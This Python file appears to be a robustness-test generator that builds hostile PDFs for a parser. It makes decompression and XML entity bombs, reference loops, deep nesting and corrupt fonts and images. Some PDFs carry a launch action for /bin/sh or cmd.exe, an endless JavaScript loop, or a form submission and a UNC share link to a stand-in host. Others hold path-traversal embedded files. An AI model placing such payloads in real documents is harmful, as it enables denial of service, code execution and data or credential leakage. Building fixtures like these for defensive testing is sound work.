# ruff: noqa: E501, PLW0108 (one file a line reads better; what makes it stands below)
"""Hostile PDFs: bombs, loops, broken fonts and boxes, actions, forms without end."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Iterable

from hostile.case import MB, HostileFile, cut, flipped, noise, packed

_PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
)
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_TEXT = b"BT /F1 12 Tf 72 700 Td (Date of loss 2026-03-02) Tj 0 -20 Td (Policy number AP-118822) Tj ET"


def build(objects: Iterable[bytes], trailer: bytes = b"", root: int = 1) -> bytes:
    """A PDF of these objects, numbered from 1, with a table of where they stand."""
    body = bytearray(b"%PDF-1.7\n")
    places = []
    for number, one in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer\n<< /Root %d 0 R /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n"
    return bytes(body) + table + end % (root, len(places) + 1, trailer, len(body))


def stream(data: bytes, entries: bytes = b"", pack: bool = False) -> bytes:
    """A stream object, packed where asked."""
    if pack:
        data, entries = zlib.compress(data, 9), entries + b" /Filter /FlateDecode"
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def paper(
    content: bytes | None = None,
    page: bytes = _PAGE,
    font: bytes = _FONT,
    catalog: bytes = b"",
    more: Iterable[bytes] = (),
    trailer: bytes = b"",
    pages: bytes = b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
) -> bytes:
    """A one-page PDF with something changed: 1 catalog, 2 pages, 3 page, 4 contents, 5 font, 6 and on what is added."""
    contents = stream(_TEXT) if content is None else content
    return build(
        [b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog, pages, page, contents, font, *more], trailer=trailer
    )


def with_page(entries: bytes) -> bytes:
    """The page with these entries put in (later ones win)."""
    return _PAGE[:-2] + entries + b" >>"


def boxed(box: bytes) -> bytes:
    return paper(page=_PAGE.replace(b"[0 0 612 792]", box))


def many_pages(count: int, real: bool) -> bytes:
    """So many pages, declared only, or all the same page."""
    kids = b"3 0 R " * (count if real else 1)
    return paper(pages=b"<< /Type /Pages /Count %d /Kids [%s] >>" % (count, kids))


def picture(entries: bytes, data: bytes) -> bytes:
    """A page that shows one picture."""
    page = _PAGE.replace(b"/Font << /F1 5 0 R >>", b"/XObject << /I 6 0 R >>")
    image = stream(data, b"/Type /XObject /Subtype /Image " + entries)
    return paper(stream(b"q 600 0 0 700 0 0 cm /I Do Q"), page=page, more=[image])


def object_stream(first: bytes, extends: bytes = b"") -> bytes:
    """A PDF whose catalog lies in a stream of objects."""
    inside = b"1 0 2 %d %s" % (len(first) + 1, first + b" << /Type /Pages /Count 1 /Kids [3 0 R] >>")
    begin = inside.index(first)
    packed = stream(inside, b"/Type /ObjStm /N 2 /First %d %s" % (begin, extends))
    return (
        b"%PDF-1.7\n3 0 obj\n"
        + _PAGE
        + b"\nendobj\n7 0 obj\n"
        + packed
        + b"\nendobj\n"
        + (b"trailer << /Root 1 0 R /Size 8 >>\nstartxref\n0\n%%EOF\n")
    )


def cross_reference_loop(first: int, second: int) -> bytes:
    """Tables of places that name each other as the earlier one."""
    text = paper()
    at = text.rindex(b"xref\n0")
    return text.replace(b"/Size 6", b"/Size 6 /Prev %d" % (at if first else second))


def encrypted(entries: bytes) -> bytes:
    return paper(trailer=b"/Encrypt << %s >> /ID [<00> <00>]" % entries)


def form(fields: bytes, more: Iterable[bytes] = (), page: bytes = b"") -> bytes:
    """A paper with a form."""
    return paper(catalog=b"/AcroForm << /Fields [%s] >>" % fields, page=with_page(page), more=more)


def many_fields(count: int) -> bytes:
    """A form of so many fields, all on the one page."""
    numbers = b" ".join(b"%d 0 R" % (6 + n) for n in range(count))
    fields = [
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (f%d) /V (v) /Rect [%d %d %d %d] /P 3 0 R >>"
        % (n, n % 600, n % 780, n % 600 + 9, n % 780 + 9)
        for n in range(count)
    ]
    return form(numbers, fields, b"/Annots [%s]" % numbers)


def type3(procedure: bytes) -> bytes:
    """A font whose glyphs are drawings, one of which is this."""
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [0.001 0 0 0.001 0 0] /FirstChar 97 "
        b"/LastChar 97 /Widths [1000] /CharProcs << /a 6 0 R >> /Encoding << /Differences [97 /a] >> "
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /X 7 0 R >> >> >>"
    )
    x = stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 7 0 R >> >>")
    return paper(stream(b"BT /F1 12 Tf 72 700 Td (aaaa) Tj ET"), font=font, more=[stream(procedure), x])


def font_file(kind: bytes, subtype: bytes, data: bytes) -> bytes:
    """A font that brings this as its file."""
    font = (
        b"<< /Type /Font /Subtype /%s /BaseFont /ABCDEF+X /FirstChar 32 /LastChar 90 /Widths [%s] "
        b"/FontDescriptor 6 0 R >>" % (subtype, b"500 " * 59)
    )
    descriptor = (
        b"<< /Type /FontDescriptor /FontName /ABCDEF+X /Flags 4 /FontBBox [-9 -9 999 999] /ItalicAngle 0 /Ascent 900 "
        b"/Descent -200 /CapHeight 700 /StemV 80 /%s 7 0 R >>" % kind
    )
    extra = b"/Subtype /Type1C" if kind == b"FontFile3" else b"/Length1 %d /Length2 0 /Length3 0" % len(data)
    return paper(font=font, more=[descriptor, stream(data, extra)])


def to_unicode(cmap: bytes) -> bytes:
    """A font with this table of what its codes mean."""
    return paper(font=_FONT[:-2] + b"/ToUnicode 6 0 R >>", more=[stream(cmap, pack=True)])


def resources_loop() -> bytes:
    """Forms that draw each other for ever."""
    page = _PAGE.replace(b"/Font << /F1 5 0 R >>", b"/XObject << /X 6 0 R /Y 7 0 R >>")
    form_entries = (
        b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /X 6 0 R /Y 7 0 R >> >>"
    )
    both = [stream(b"/Y Do /Y Do", form_entries), stream(b"/X Do /X Do", form_entries)]
    return paper(stream(b"/X Do"), page=page, more=both)


def drawing_bomb(levels: int, times: int) -> bytes:
    """Forms that draw forms that draw forms: `times` to the power of `levels` words."""
    page = _PAGE.replace(b"/Font << /F1 5 0 R >>", b"/Font << /F1 5 0 R >> /XObject << /X 6 0 R >>")
    forms = []
    for level in range(levels):
        entries = (
            b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] "
            b"/Resources << /Font << /F1 5 0 R >> /XObject << /X %d 0 R >> >>" % (7 + level)
        )
        forms.append(stream(_TEXT if level == levels - 1 else b"/X Do " * times, entries))
    return paper(stream(b"/X Do"), page=page, more=forms)


def deep_tree(levels: int) -> bytes:
    """Pages within pages within pages."""
    nodes = [b"<< /Type /Pages /Count 1 /Kids [%d 0 R] /Parent %d 0 R >>" % (7 + n, 5 + n) for n in range(levels)]
    nodes.append(_PAGE)
    return paper(pages=b"<< /Type /Pages /Count 1 /Kids [6 0 R] >>", more=nodes)


def archive() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as folder:
        folder.writestr(zipfile.ZipInfo("../../x"), "y")
    return held.getvalue()


def names_loop(key: bytes) -> bytes:
    return paper(catalog=b"/Names << /%s 6 0 R >>" % key, more=[b"<< /Kids [6 0 R 6 0 R] /Limits [(a) (z)] >>"])


def outline_loop() -> bytes:
    item = b"<< /Title (x) /Parent 6 0 R /Next 7 0 R /Prev 7 0 R /First 7 0 R /Last 7 0 R >>"
    return paper(
        catalog=b"/Outlines 6 0 R", more=[b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 999999 >>", item]
    )


def glyphs(count: int, size: int = 1) -> bytes:
    """So many letters on one page, each placed by itself."""
    shown = b"".join(b"1 0 0 1 %d %d Tm (w) Tj " % (n * 7 % 600, n * 3 % 780) for n in range(count))
    return paper(stream(b"BT /F1 %d Tf " % size + shown + b"ET", pack=True))


def paths(count: int) -> bytes:
    """So many small lines on one page."""
    drawn = b"".join(b"%d %d m %d %d l S " % (n % 600, n % 780, n * 7 % 600, n * 3 % 780) for n in range(count))
    return paper(stream(drawn + _TEXT, pack=True))


def action(entries: bytes) -> bytes:
    return paper(catalog=b"/OpenAction << %s >>" % entries)


_XFA_BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><xdp>&j;</xdp>"
)
_STANDARD = b"/Filter /Standard /O <%s> /U <%s> /P -44 " % (b"61" * 32, b"62" * 32)
_CMAP = b"begincmap 1 begincodespacerange <00> <ff> endcodespacerange %s endcmap"
_LINK = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] /A << %s >> >>]"


def _f(name: str, make: object, small: bool = False) -> HostileFile:
    return HostileFile("pdf", name, make, small)  # type: ignore[arg-type]


PDFS: tuple[HostileFile, ...] = (
    _f("zero bytes", lambda: b"", True),
    _f("only a mark", lambda: b"%PDF-1.7\n", True),
    _f("only zeros after the mark", lambda: b"%PDF-1.7\n" + bytes(MB)),
    _f("noise after the mark", lambda: b"%PDF-1.4\n" + noise(MB)),
    *(
        _f(f"cut at {share:.0%}", lambda share=share: cut(paper(more=[_FONT] * 40), share))
        for share in (0.03, 0.1, 0.25, 0.5, 0.75, 0.9, 0.97)
    ),
    *(_f(f"{count} bytes changed", lambda count=count: flipped(paper(), count, count)) for count in (1, 5, 20, 60, 200)),
    _f("300 MB of spaces in a stream", lambda: paper(stream(packed(300 * MB, b" "), b"/Filter /FlateDecode"))),
    _f("a stream packed three times over", lambda: paper(_thrice(300 * MB)), True),
    _f("a table of places that unpacks to 300 MB", lambda: _places_bomb()),
    _f("50,000 pages declared, one there", lambda: many_pages(50_000, real=False), True),
    _f("50,000 pages", lambda: many_pages(50_000, real=True)),
    _f("two billion pages declared", lambda: many_pages(2**31 - 1, real=False)),
    _f("a negative number of pages", lambda: many_pages(-5, real=False)),
    _f("no pages", lambda: paper(pages=b"<< /Type /Pages /Count 0 /Kids [] >>")),
    _f("pages that are their own child", lambda: paper(pages=b"<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R 3 0 R] >>"), True),
    _f("a page whose parent is itself", lambda: paper(page=_PAGE.replace(b"/Parent 2", b"/Parent 3"))),
    _f("pages 2,000 deep", lambda: deep_tree(2000)),
    _f("an array 200,000 deep", lambda: paper(catalog=b"/X " + b"[" * 200_000 + b"]" * 200_000)),
    _f("a dictionary 100,000 deep", lambda: paper(catalog=b"/X " + b"<< /A " * 100_000 + b"1" + b" >>" * 100_000)),
    _f("an array without its end", lambda: paper(catalog=b"/X " + b"[" * 3_000_000)),
    _f("an array 100,000 deep in the contents", lambda: paper(stream(b"[" * 100_000 + _TEXT))),
    _f("300,000 states saved", lambda: paper(stream(b"q " * 300_000 + _TEXT))),
    _f("a stream of objects that holds itself", lambda: object_stream(b"<< /Type /Catalog /Pages 2 0 R >>", b"/Extends 7 0 R")),
    _f("a million objects in a stream", lambda: object_stream(b"<< /Type /Catalog >>").replace(b"/N 2", b"/N 1000000")),
    _f("a length that names itself", lambda: paper(b"<< /Length 4 0 R >>\nstream\n" + _TEXT + b"\nendstream")),
    _f("a length beyond the file", lambda: paper(b"<< /Length 99999999999 >>\nstream\n" + _TEXT + b"\nendstream")),
    _f("a table of places that is its own forerunner", lambda: cross_reference_loop(1, 0), True),
    _f("a table of places nowhere", lambda: cross_reference_loop(0, 10**12)),
    _f("a table of places for a billion objects", lambda: paper().replace(b"xref\n0 6", b"xref\n0 999999999")),
    _f("an object that is itself", lambda: paper(page=b"3 0 R")),
    _f("encrypted, old", lambda: encrypted(_STANDARD + b"/V 1 /R 2 /Length 40"), True),
    _f("encrypted, 128 bits", lambda: encrypted(_STANDARD + b"/V 2 /R 3 /Length 128")),
    _f("encrypted, AES 256", lambda: encrypted(_STANDARD + b"/V 5 /R 6 /Length 256 /OE <00> /UE <00> /Perms <00>")),
    _f("encrypted, unknown handler", lambda: encrypted(b"/Filter /Adobe.PubSec /V 4 /SubFilter /adbe.pkcs7.s5")),
    _f("encrypted, a key of a million bits", lambda: encrypted(_STANDARD + b"/V 2 /R 3 /Length 1000000")),
    _f("a ZIP as well", lambda: paper() + archive(), True),
    _f("HTML as well", lambda: b"<html><script>alert(1)</script><!--" + paper() + b"--></html>"),
    _f("a program as well", lambda: b"MZ" + noise(400, 3) + paper()),
    _f("a mail as well", lambda: b"From: a@b\nSubject: x\nMIME-Version: 1.0\n\n" + paper()),
    _f("a huge page", lambda: boxed(b"[0 0 1e9 1e9]"), True),
    _f("a page beyond numbers", lambda: boxed(b"[0 0 99999999999999999999999999 1]")),
    _f("a page of negative size", lambda: boxed(b"[612 792 -10 -10]")),
    _f("a page of no size", lambda: boxed(b"[0 0 0 0]")),
    _f("a page of no number", lambda: boxed(b"[0 0 nan inf]")),
    _f("a page whose box is itself", lambda: boxed(b"3 0 R")),
    _f("a page turned by 45", lambda: paper(page=with_page(b"/Rotate 45"))),
    _f("a page turned by a billion", lambda: paper(page=with_page(b"/Rotate 90000000000 /UserUnit 1e30"))),
    _f("a million letters", lambda: glyphs(1_000_000)),
    _f("100,000 letters in a few places", lambda: glyphs(100_000, size=40)),
    _f("letters of no size", lambda: glyphs(1000, size=0)),
    _f("300,000 lines drawn", lambda: paths(300_000)),
    _f("a matrix beyond numbers", lambda: paper(stream(b"BT /F1 1e38 Tf 1e38 1e38 -1e38 1e38 1e38 1e38 Tm (x) Tj ET"))),
    _f("a string of 40 MB", lambda: paper(stream(b"BT /F1 9 Tf 9 9 Td (" + b"x" * (40 * MB) + b") Tj ET", pack=True))),
    _f("glyphs that draw themselves", lambda: type3(b"1000 0 d0 BT /F1 1 Tf (a) Tj ET"), True),
    _f("glyphs that draw a form that draws itself", lambda: type3(b"1000 0 d0 /X Do")),
    _f("forms that draw each other", resources_loop, True),
    _f("a form drawn 10^12 times", lambda: drawing_bomb(12, 10)),
    _f("a font of noise, CFF", lambda: font_file(b"FontFile3", b"Type1", b"\1\0\4\2" + noise(20_000))),
    _f("a font of noise, TrueType", lambda: font_file(b"FontFile2", b"TrueType", b"\0\1\0\0\0\x20" + noise(20_000))),
    _f("a font of noise, Type 1", lambda: font_file(b"FontFile", b"Type1", b"%!PS-AdobeFont-1.0\n" + noise(20_000))),
    _f("a font with a loop of subroutines", lambda: font_file(b"FontFile3", b"Type1", _cff_loop())),
    _f("a font that is its own descendant", lambda: paper(font=b"<< /Type /Font /Subtype /Type0 /DescendantFonts [5 0 R] >>")),
    _f("a code that means 65,000 letters", lambda: to_unicode(_CMAP % (b"1 beginbfchar <44> <%s> endbfchar" % (b"0041" * 65_000)))),
    _f("a million meanings", lambda: to_unicode(_CMAP % (b"9 beginbfrange " + b"<00> <ff> <0041> " * 1_000_000))),
    _f("JBIG2 of noise", lambda: picture(b"/Width 5000 /Height 5000 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode", noise(50_000))),
    _f("JPEG 2000 of noise", lambda: picture(b"/Width 5000 /Height 5000 /Filter /JPXDecode", b"\0\0\0\x0cjP  \r\n\x87\n" + noise(50_000))),
    _f("a JPEG of noise", lambda: picture(b"/Width 900 /Height 900 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode", b"\xff\xd8\xff" + noise(50_000))),
    _f("a fax of noise", lambda: picture(b"/Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 60000 /Rows 60000 >>", noise(50_000))),
    _f("a picture of 100,000 by 100,000", lambda: picture(b"/Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8", b"x"), True),
    _f("a picture of two billion lines", lambda: picture(b"/Width 2147483647 /Height 2147483647 /ColorSpace /DeviceCMYK /BitsPerComponent 16", b"x")),
    _f("a picture that unpacks to 400 MB", lambda: picture(b"/Width 20000 /Height 20000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode", packed(400 * MB))),
    _f("a picture that is its own mask", lambda: picture(b"/Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 /SMask 6 0 R", bytes(81))),
    _f("a shading without end", lambda: paper(stream(b"/S sh"), page=with_page(b"/Resources << /Shading << /S << /ShadingType 1 /Domain [0 1e9 0 1e9] /ColorSpace /DeviceRGB /Function 6 0 R >> >> >>"), more=[b"<< /FunctionType 3 /Domain [0 1] /Functions [6 0 R 6 0 R] /Bounds [0.5] /Encode [0 1 0 1] >>"])),
    _f("a pattern of itself", lambda: paper(stream(b"/Pattern cs /P scn 0 0 600 700 re f"), page=with_page(b"/Resources << /Pattern << /P 6 0 R >> >>"), more=[stream(b"/Pattern cs /P scn 0 0 9 9 re f", b"/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 0.0001 /YStep 0.0001 /Resources << /Pattern << /P 6 0 R >> >>")])),
    _f("a function 1,000 deep", lambda: paper(stream(b"/C cs 0 sc 0 0 9 9 re f" + _TEXT), more=[stream(b"{ " * 9000 + b"} " * 9000, b"/FunctionType 4 /Domain [0 1] /Range [0 1]")])),
    _f("JavaScript at opening", lambda: action(b"/S /JavaScript /JS (while \\(1\\) app.alert\\(1\\))"), True),
    _f("a program at opening", lambda: action(b"/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >>")),
    _f("an address at opening", lambda: action(b"/S /URI /URI (http://192.0.2.1/?claim)")),
    _f("a form sent at opening", lambda: action(b"/S /SubmitForm /F (http://192.0.2.1/) /Flags 4")),
    _f("a chain of actions in a ring", lambda: paper(catalog=b"/OpenAction 6 0 R", more=[b"<< /S /Named /N /NextPage /Next 6 0 R >>"])),
    _f("a link to a share", lambda: paper(page=with_page(_LINK % b"/S /GoToR /F (\\\\\\\\192.0.2.1\\\\x)"))),
    _f("an annotation that is its own parent", lambda: form(b"6 0 R", [b"<< /FT /Tx /T (a) /Parent 6 0 R /Kids [6 0 R] /Type /Annot /Subtype /Widget /Rect [0 0 9 9] >>"], b"/Annots [6 0 R]"), True),
    _f("100,000 annotations", lambda: paper(page=with_page(b"/Annots [%s]" % (b"6 0 R " * 100_000)), more=[b"<< /Type /Annot /Subtype /FreeText /Rect [9 9 99 99] /Contents (word) /DA (/Helv 9 Tf) >>"])),
    _f("embedded files", lambda: paper(catalog=b"/Names << /EmbeddedFiles << /Names [(../../x) 6 0 R] >> >>", more=[b"<< /Type /Filespec /F (../../x) /EF << /F 7 0 R >> >>", stream(b"MZ")])),
    _f("a form without end", lambda: paper(catalog=b"/AcroForm << /XFA 6 0 R /Fields [] >>", more=[stream(_XFA_BOMB)])),
    _f("fields in a ring", lambda: form(b"6 0 R 7 0 R", [b"<< /T (a) /Kids [7 0 R] /Parent 7 0 R >>", b"<< /T (b) /Kids [6 0 R] /Parent 6 0 R >>"])),
    _f("fields 5,000 deep", lambda: form(b"6 0 R", [b"<< /T (a) /Kids [%d 0 R] /Parent %d 0 R >>" % (7 + n, 5 + n) for n in range(5000)])),
    _f("100,000 fields", lambda: many_fields(100_000)),
    _f("a field of 20 MB", lambda: form(b"6 0 R", [b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (%s) /Rect [0 0 99 99] >>" % (b"9 " * (10 * MB))], b"/Annots [6 0 R]")),
    _f("a name of 5 MB", lambda: paper(catalog=b"/" + b"N" * (5 * MB) + b" 1")),
    _f("a number of a million digits", lambda: paper(catalog=b"/X " + b"9" * 1_000_000)),
    _f("destinations in a ring", lambda: names_loop(b"Dests")),
    _f("embedded files in a ring", lambda: names_loop(b"EmbeddedFiles")),
    _f("scripts in a ring", lambda: names_loop(b"JavaScript")),
    _f("an outline in a ring", outline_loop),
    _f("metadata without end", lambda: paper(catalog=b"/Metadata 6 0 R", more=[stream(_XFA_BOMB, b"/Type /Metadata /Subtype /XML")])),
    _f("10,000 updates", lambda: paper() + b"".join(b"4 0 obj\n%s\nendobj\n" % stream(_TEXT) for _ in range(10_000))),
    _f("two papers in one", lambda: paper() + paper(stream(_TEXT.replace(b"2026", b"1999")))),
)  # fmt: skip


def _thrice(size: int) -> bytes:
    data = zlib.compress(zlib.compress(packed(size), 9), 9)
    return stream(data, b"/Filter [/FlateDecode /FlateDecode /FlateDecode]")


def _places_bomb() -> bytes:
    body = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    table = stream(packed(300 * MB), b"/Type /XRef /Root 1 0 R /Size 60000000 /W [1 2 2] /Filter /FlateDecode")
    return body + b"9 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


def _cff_loop() -> bytes:
    """A compact font whose only subroutine calls itself."""
    call = bytes([32, 29])  # subroutine 0 of the global ones (bias 107), called for ever
    names = b"\0\1\1\1\2X"
    charstrings = b"\0\2\1\1\3\5" + call + call
    subroutines = b"\0\1\1\1\3" + call
    strings = b"\0\0"
    top_size = 6
    start = 4 + len(names) + 5 + top_size + len(strings) + len(subroutines)
    top = b"\0\1\1\1" + bytes([1 + top_size]) + b"\x1d" + start.to_bytes(4, "big") + b"\x11"
    return b"\1\0\4\1" + names + top + strings + subroutines + charstrings
